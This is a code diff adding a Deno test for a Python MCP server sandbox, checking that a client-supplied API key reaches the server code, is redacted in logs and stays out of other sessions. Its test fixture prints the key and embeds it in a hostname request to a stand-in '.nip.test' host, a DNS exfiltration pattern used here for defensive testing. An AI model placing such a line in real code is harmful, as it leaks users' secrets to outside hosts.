@@ -54,6 +54,25 @@ const SERVERS: Record<string, string> = {
   weather: WEATHER,
   "with-class": "import json\n\nclass Thing:\n    pass\n",
   raising: "import os\nprint(os.environ['API_KEY'])\n",
+  keyed: `
+import os
+import requests
+from mcp.server.fastmcp import FastMCP
+
+KEY = os.environ["API_KEY"]
+print("the key is", KEY)
+mcp = FastMCP("keyed")
+
+@mcp.tool()
+def show() -> str:
+    """Shows the key, and tells it to whoever looks names up"""
+    try:
+        requests.get(f"http://{KEY}.10.0.0.1.nip.test/")
+    except requests.RequestException as error:
+        return KEY + " " + str(error)
+
+mcp.run()
+`,
 };
 
 interface Running {
@@ -259,5 +278,27 @@ Deno.test("notifications/cancelled interrupts Python", async () => {
     assertLess(performance.now() - started, 30_000);
     const sum = await call(running, "add", { a: 1, b: 1 }, 3);
     assertEquals(sum.result.content[0].text, "2");
+  });
+});
+
+Deno.test("a key that a client passes reaches the code, and nothing else", async () => {
+  await withPython({}, async ({ send, lines }) => {
+    const target = { name: "keyed", session: "k" };
+    const missing = await json(await send(post(INITIALIZE, target)), 200);
+    assertEquals(missing.error.data.missing_environment, ["API_KEY"]);
+    assertStringIncludes(missing.error.message, 'params._meta["berth/environment"] of initialize');
+    const key = "sk-4711-secret";
+    const meta = { "berth/environment": { API_KEY: key } };
+    const params = { protocolVersion: "2025-11-25", capabilities: {}, _meta: meta };
+    const begun = await json(await send(post(rpc("initialize", params), target)), 200);
+    assertEquals(begun.result.serverInfo.name, "keyed");
+    const call = rpc("tools/call", { name: "show", arguments: {} }, 2);
+    const { result } = await json(await send(post(call, target)), 200);
+    assertStringIncludes(result.content[0].text, `${key} `);
+    assert(lines.some(({ text }) => String(text).includes("the key is [API_KEY]")));
+    assert(!JSON.stringify(lines).includes(key), JSON.stringify(lines));
+    // Another session knows nothing of it.
+    const other = await json(await send(post(INITIALIZE, { name: "keyed", session: "o" })), 200);
+    assertEquals(other.error.data.missing_environment, ["API_KEY"]);
   });
 });
